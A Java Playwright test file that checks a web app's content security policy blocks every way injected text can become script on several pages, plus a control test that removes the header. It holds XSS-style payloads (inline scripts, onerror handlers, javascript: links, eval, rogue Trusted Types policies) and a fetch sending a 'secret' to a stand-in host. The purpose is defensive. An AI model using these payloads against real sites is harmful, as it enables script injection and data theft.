package org.countersign.journeys;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Somebody has got text of theirs into a page. The content security policy stops each way by which text becomes script,
 * and says so. The same ways run where the header is taken away, or this test would prove nothing.
 */
@DisplayName("Injected text never runs")
@ExtendWith(SharedStage.class)
class InjectionJourneyTest {
    private static final String ELSEWHERE = "https://elsewhere.example";
    private static final String MARKUP = """
            <script>planted('inline script')</script>
            <img alt="" src="data:," onerror="planted('handler')">
            <script src="https://elsewhere.example/markup.js"></script>
            """;

    /** Hears what ran and what was refused; a debugger's script, which no policy binds. */
    private static final String LISTENER = """
            globalThis.ran = [];
            globalThis.refused = [];
            globalThis.planted = (how) => { ran.push(how); };
            document.addEventListener('securitypolicyviolation', (event) => {
                refused.push(event.effectiveDirective);
            });
            """;

    private static final String TRUSTED_TYPES = "require-trusted-types-for";

    /** A way from text to script, and the directive that stops it. */
    private record Way(String name, String script, String directive) {}

    private static final List<Way> WAYS = List.of(
            new Way("markup", """
                    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="planted(1)">')""", TRUSTED_TYPES),
            new Way("innerHTML", """
                    document.createElement('div').innerHTML = '<img src="data:," onerror="planted(1)">'""", TRUSTED_TYPES),
            new Way("document.write", """
                    document.createElement('div').ownerDocument.write('<script>planted(1)</scr' + 'ipt>')""", TRUSTED_TYPES),
            new Way("a frame's srcdoc", """
                    const frame = document.createElement('iframe');
                    frame.srcdoc = '<script>parent.planted(1)</scr' + 'ipt>';
                    document.body.append(frame)""", TRUSTED_TYPES),
            new Way("an inline script", """
                    const script = document.createElement('script');
                    script.textContent = 'planted(1)';
                    document.body.append(script)""", TRUSTED_TYPES),
            new Way("a script from elsewhere", """
                    const script = document.createElement('script');
                    script.src = 'https://elsewhere.example/script.js';
                    document.body.append(script)""", TRUSTED_TYPES),
            new Way("a module from elsewhere", "import('https://elsewhere.example/module.js')", "script-src-elem"),
            new Way("a handler attribute", """
                    const button = document.createElement('button');
                    button.setAttribute('onclick', 'planted(1)');
                    button.click()""", TRUSTED_TYPES),
            new Way("a javascript: address", """
                    const link = document.createElement('a');
                    link.href = 'javascript:void planted(1)';
                    document.body.append(link);
                    link.click()""", "script-src-elem"),
            new Way("eval", "eval('planted(1)')", TRUSTED_TYPES),
            new Way("a function of text", "new Function('planted(1)')()", TRUSTED_TYPES),
            new Way("a timer of text", "setTimeout('planted(1)', 0)", TRUSTED_TYPES),
            new Way("a worker of text", """
                    const file = URL.createObjectURL(new Blob(['postMessage(1)']));
                    new Worker(file).onmessage = () => planted(1)""", TRUSTED_TYPES),
            new Way("a service worker by its bare address", """
                    navigator.serviceWorker.register('/sw.js', { scope: '/planted' }).then(() => planted(1))""", TRUSTED_TYPES),
            new Way("a policy of its own", """
                    trustedTypes.createPolicy('mine', { createHTML: (text) => text });
                    planted(1)""", "trusted-types"),
            new Way("the app's policy once more", """
                    trustedTypes.createPolicy('countersign-worker', { createScriptURL: (text) => text });
                    planted(1)""", "trusted-types"),
            new Way("a secret sent elsewhere", """
                    fetch('https://elsewhere.example/?secret').then(() => planted(1))""", "connect-src"));

    static Stream<Named<String>> pages() {
        return Stream.of(
                Named.of("the app", "app:/"),
                Named.of("the login page", "login:"),
                Named.of("the demo's mailbox", "pages:/demo/mailbox"),
                Named.of("the enrollment page", "pages:/o/acme/enroll"),
                Named.of("the console", "pages:/console/acme"));
    }

    @ParameterizedTest
    @MethodSource("pages")
    @DisplayName("Each way from text to script is stopped and reported")
    void scriptCannotComeFromText(String address, Journey journey) {
        Page page = opened(journey, address, true, false);
        for (Way way : WAYS) {
            page.evaluate("refused.length = 0");
            attempt(page, way);
            page.waitForCondition(() -> !heard(page, "refused").isEmpty());
            assertThat(heard(page, "refused")).as(way.name()).contains(way.directive());
        }
        assertThat(heard(page, "ran")).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("pages")
    @DisplayName("Script in the markup itself is stopped and reported")
    void scriptInTheMarkupDoesNotRun(String address, Journey journey) {
        Page page = opened(journey, address, true, true);
        page.waitForCondition(() -> heard(page, "refused").size() >= 3);
        assertThat(heard(page, "refused")).contains("script-src-elem", "script-src-attr");
        assertThat(heard(page, "ran")).isEmpty();
    }

    @Test
    @DisplayName("The twin: without the header each of these ways runs")
    void withoutTheHeaderTheyRun(Journey journey) {
        Page page = opened(journey, "app:/", false, true);
        page.waitForCondition(() -> heard(page, "ran").size() == 3);
        for (Way way : WAYS) {
            Page fresh = opened(journey, "app:/", false, false);
            attempt(fresh, way);
            fresh.waitForCondition(() -> !heard(fresh, "ran").isEmpty());
            assertThat(heard(fresh, "refused")).as(way.name()).isEmpty();
            fresh.close();
        }
    }

    private static void attempt(Page page, Way way) {
        // In a turn of its own, as the page's scripts run; what is refused throws.
        page.evaluate("() => new Promise((done) => setTimeout(() => { try { " + way.script()
                + " } catch { /* refused */ } finally { done(); } }))");
    }

    private static List<String> heard(Page page, String list) {
        return page.evaluate(list) instanceof List<?> words
                ? words.stream().map(String::valueOf).toList()
                : List.of();
    }

    private static Page opened(Journey journey, String address, boolean withHeader, boolean withMarkup) {
        String origin = (address.startsWith("app:")
                        ? journey.server().app()
                        : journey.server().pages())
                .toString();
        Page page = journey.desk().page();
        BrowserContext browser = page.context();
        browser.addInitScript(LISTENER);
        browser.route(ELSEWHERE + "/**", InjectionJourneyTest::elsewhere);
        if (!withHeader || withMarkup) {
            browser.route(origin + "/**", route -> changed(route, withHeader, withMarkup));
        }
        if (address.equals("login:")) {
            page.navigate(journey.server().wiki().toString());
            page.getByText("Sign in").first().click();
            Stage.expectHeading(page, "Sign in");
            // It was reached by redirects, which cannot be changed on their way.
            page.reload();
        } else {
            page.navigate(origin + address.substring(address.indexOf(':') + 1));
        }
        return page;
    }

    private static void elsewhere(Route route) {
        route.fulfill(new Route.FulfillOptions()
                .setContentType("text/javascript")
                .setHeaders(Map.of("Access-Control-Allow-Origin", "*"))
                .setBody("planted('elsewhere')"));
    }

    private static void changed(Route route, boolean withHeader, boolean withMarkup) {
        if (!route.request().resourceType().equals("document")) {
            route.resume();
            return;
        }
        APIResponse answer = route.fetch();
        Map<String, String> headers = new HashMap<>(answer.headers());
        if (!withHeader) {
            headers.remove("content-security-policy");
        }
        String text = answer.text();
        assertThat(text).contains("</body>");
        route.fulfill(new Route.FulfillOptions()
                .setStatus(answer.status())
                .setHeaders(headers)
                .setBody(withMarkup ? text.replace("</body>", MARKUP + "</body>") : text));
    }
}
